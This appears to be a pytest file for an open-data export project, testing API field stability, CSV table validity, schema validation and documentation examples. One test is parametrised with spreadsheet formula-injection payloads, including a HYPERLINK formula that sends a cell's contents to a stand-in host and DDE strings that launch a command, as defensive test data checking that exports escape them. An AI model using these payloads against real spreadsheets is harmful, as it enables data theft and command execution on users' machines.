"""The open data of the invented world, read by third-party parsers."""

import csv
import io
import json
import os
import re
import subprocess
import sys
import warnings
from pathlib import Path
from typing import Any

import pytest
from checking import FRONT
from conftest import ROOT, WORLD, received
from in_memory import entry, snapshot, world_web_site
from jsonschema import Draft202012Validator, FormatChecker
from timeline.analysis.snapshot import Snapshot
from timeline.content.front_matter import parse_text
from timeline.exports.api import api_files, records
from timeline.exports.tables import table_files, tables
from timeline.schema.entry import Entry
from timeline.schema.introspect import MODELS, front_matter_schema
from timeline.schema.terms import TERMS
from timeline.schema.types import Document

SHAPE = Path(__file__).parent / "api-v1-shape.json"


def rows_of(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def json_files(found: Snapshot) -> dict[str, bytes]:
    site = world_web_site()
    return dict(api_files(records(found, site), found, site))


# The shape of v1 has types in place of values; the shape of a list merges those of its items.


def shape(value: Any) -> Any:
    if isinstance(value, dict):
        return {key: shape(inner) for key, inner in value.items()}
    if isinstance(value, list):
        return [merged([shape(inner) for inner in value])]
    types = {bool: "boolean", int: "number", float: "number", str: "text", type(None): "null"}
    return types[type(value)]


def merged(shapes: list[Any]) -> Any:
    """Merge shapes into one; fail if a field is not in all of them or has values of two types."""
    known = [one for one in shapes if one not in ("null", "nothing")]
    if not known:
        return "null" if "null" in shapes else "nothing"
    if all(isinstance(one, dict) for one in known):
        assert all(one.keys() == known[0].keys() for one in known), "a field is not in every item"
        return {key: merged([one[key] for one in known]) for key in known[0]}
    if all(isinstance(one, list) for one in known):
        return [merged([one[0] for one in known])]
    assert all(one == known[0] for one in known), f"both {known[0]} and another type"
    return known[0]


def is_kept(promised: Any, found: Any) -> bool:
    """Return whether every promised field is there, either with its type or without a value."""
    if found in ("null", "nothing") or promised in ("null", "nothing"):
        return True
    if isinstance(promised, dict) and isinstance(found, dict):
        return all(key in found and is_kept(promised[key], found[key]) for key in promised)
    if isinstance(promised, list) and isinstance(found, list):
        return is_kept(promised[0], found[0])
    return bool(promised == found)


def extended(promised: Any, found: Any) -> Any:
    """Return the promised shape, extended by the new fields."""
    if isinstance(promised, dict) and isinstance(found, dict):
        return promised | {
            key: extended(promised[key], value) if key in promised else value
            for key, value in found.items()
        }
    if isinstance(promised, list) and isinstance(found, list):
        return [extended(promised[0], found[0])]
    return found if promised in ("null", "nothing") else promised


def shapes_of_lists() -> dict[str, Any]:
    """Return the shapes of the lists and of the year files, whose entries include their text."""
    files = json_files(snapshot())
    names = ("entries", *TERMS, "deadlines")
    found = {name: shape(json.loads(files[f"api/v1/{name}.json"])) for name in names}
    years = [path for path in files if path.startswith("api/v1/years/")]
    return found | {"years": merged([shape(json.loads(files[path])) for path in years])}


def test_no_field_of_v1_is_renamed_or_removed(request: pytest.FixtureRequest) -> None:
    """`--write-golden` adds new fields to the file if all the fields in it are still there."""
    found, promised = shapes_of_lists(), json.loads(SHAPE.read_text(encoding="utf-8"))
    assert [name for name in promised if not is_kept(promised[name], found.get(name))] == []
    if request.config.getoption("--write-golden"):
        promised = extended(promised, found)
        SHAPE.write_text(json.dumps(promised, indent=1) + "\n", encoding="utf-8")
    new = [name for name, current in found.items() if not is_kept(current, promised.get(name))]
    assert new == [], "promise the new fields too: --write-golden"


def test_renamed_removed_and_changed_fields_are_noticed() -> None:
    promised, found = (
        json.loads(SHAPE.read_text(encoding="utf-8"))["entries"],
        shapes_of_lists()["entries"],
    )
    first = found["entries"][0]
    for whole, key in (
        (first, "date_precision"),
        (first["penalties"][0], "amount"),
        (found, "url"),
    ):
        value = whole.pop(key)
        assert not is_kept(promised, found), key
        whole[key] = "boolean"
        assert not is_kept(promised, found), key
        whole[key] = value
    assert is_kept(promised, found)


# Tables


def read_package(folder: Path) -> Any:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # warnings of the packages that frictionless imports
        from frictionless import Package  # noqa: PLC0415

        return Package(str(folder / "datapackage.json"))


@pytest.mark.filterwarnings("ignore::DeprecationWarning")
def test_frictionless_accepts_the_tables_and_detects_a_wrong_one(world: Path) -> None:
    received(world)
    folder = world / "build/files/data"
    package = read_package(folder)
    report = package.validate()
    assert report.valid, report.to_summary()
    names = {f"{name}.csv" for name in package.resource_names}
    assert names | {"datapackage.json"} == {file.name for file in folder.iterdir()}
    penalties = folder / "penalties.csv"
    penalties.write_bytes(penalties.read_bytes().replace(b"administrative-fine", b"fine"))
    assert not read_package(folder).validate().valid


@pytest.mark.parametrize("name", ["entries", "deadlines", *TERMS])
def test_table_has_the_rows_of_the_list_and_a_description_of_each_column(name: str) -> None:
    files = json_files(snapshot())
    found = tables(records(snapshot(), world_web_site()), snapshot())
    (table,) = (one for one in found if one.name == name)
    rows = rows_of(table.csv())
    listed = json.loads(files[f"api/v1/{name}.json"])[name]
    ids = ("date", "entry") if name == "deadlines" else ("id", "url")
    assert [[row[key] for key in ids] for row in rows] == [
        [one[key] for key in ids] for one in listed
    ]
    assert list(rows[0]) == list(dict.fromkeys(column.name for column in table.columns))
    assert [column for column in table.columns if not column.description] == []


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("https://a.example/?"&A1,"x")',
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        *("＝1＋1", "＋1", "－1", "＠SUM(1)"),
    ],
)
def test_cell_is_never_read_as_a_formula(title: str) -> None:
    penalties = [{"party": title, "measure": "warning"}]
    found = snapshot(
        [entry("2022-02-03-x", title=title, parties=["A", title], penalties=penalties)]
    )
    site = world_web_site()
    files = dict(table_files(records(found, site), found, site))
    (row,) = rows_of(files["data/entries.csv"])
    assert (row["title"], row["parties"]) == (f"'{title}", f"A; '{title}")
    for path in (path for path in files if path.endswith(".csv")):
        cells = [cell for row in rows_of(files[path]) for cell in row.values()]
        assert [cell for cell in cells if cell.startswith(tuple("=+-@\t\r＝＋－＠"))] == []
    data = json.loads(json_files(found)["api/v1/entries.json"])
    assert data["entries"][0]["title"] == title  # no spreadsheet reads it


# The schema


def validator(model: type[Document]) -> Draft202012Validator:
    schema = front_matter_schema(model, "https://world.example/schema")
    Draft202012Validator.check_schema(schema)
    return Draft202012Validator(schema, format_checker=FormatChecker(["date"]))


@pytest.mark.parametrize("name", MODELS)
def test_front_matter_of_every_file_agrees_with_its_schema(name: str) -> None:
    checked = validator(MODELS[name])
    kind = next((kind for kind, model in TERMS.items() if model is MODELS[name]), None)
    files = list((WORLD / (f"docs/{kind}" if kind else "entries")).rglob("*.md"))
    assert files
    for file in files:
        values = parse_text(file.read_text(encoding="utf-8")).values
        assert [error.message for error in checked.iter_errors(values)] == [], file


STEP = {"id": "tide-act", "stage": "passed"}


@pytest.mark.parametrize(
    ("key", "value", "is_valid"),
    [
        ("title", "Another title", True),
        ("title", "", False),
        ("title", None, False),
        ("heading", "No such key", False),
        ("date", "2021-06", True),
        ("date", "2021-6-1", False),
        ("date", 2021, True),
        ("type", "polcy", False),
        ("regulators", [], True),
        ("regulators", ["TOA!"], False),
        ("regulators", ["toa", "toa"], False),
        ("topics", [], False),
        ("added", "2021-06", False),
        ("newsletters", "gull-2021-06", False),
        ("highlight", "yes", False),
        ("sources", [{"kind": "news", "publisher": "A", "lang": "en", "url": "ftp://a.b"}], False),
        ("instruments", [STEP | {"effective": "2021-06-01"}], True),
        ("instruments", [STEP | {"effective": [{"date": "2021-06-01"}]}], True),
        ("instruments", [STEP | {"effective": "2021-06"}], False),
        ("instruments", [STEP | {"effective": []}], False),
        ("instruments", [STEP | {"effective": 2021}], False),
        ("instruments", [STEP | {"stage": "started"}], False),
        ("penalties", [{"party": "A", "measure": "fine"}], False),
    ],
)
def test_schema_accepts_valid_and_refuses_invalid_front_matter(
    key: str, value: object, is_valid: bool
) -> None:
    values = FRONT | {key: value}
    assert validator(Entry).is_valid(values) is is_valid


# The page that documents the data

TEXT = (ROOT / "docs/data.md").read_text(encoding="utf-8")
EXAMPLES = re.findall(r"^```python\n(.*?)^```$", TEXT, re.MULTILINE | re.DOTALL)


@pytest.mark.parametrize("number", range(len(EXAMPLES)))
def test_example_of_the_data_page_works(number: int, world_address: str) -> None:
    code, found = re.subn(r'(?<=SITE = ")[^"]+', world_address, EXAMPLES[number])
    assert found == 1
    code = re.sub(r"instruments/[a-z0-9-]+/", "instruments/tide-act/", code)
    code = re.sub(r'(?<="currency"\] == ")[A-Z]+', "CNY", code)  # as in the invented world
    done = subprocess.run(
        [sys.executable, "-c", code],
        env=os.environ | {"NO_PROXY": "127.0.0.1", "PYTHONUTF8": "1"},
        capture_output=True,
        text=True,
        encoding="utf-8",
        check=False,
    )
    assert (done.returncode, done.stderr) == (0, "")
    assert done.stdout.strip()


def test_addresses_on_the_data_page_exist(world_site: Path) -> None:
    named = re.findall(r"`/([^`]+)`", TEXT)
    assert len(named) > 10
    paths = [re.sub(r"\d{4}\.json", "2022.json", path) for path in named]
    paths = [path.replace("ID", "2022-02-gull-notice") for path in paths]
    assert [path for path in paths if not (world_site / path).is_file()] == []
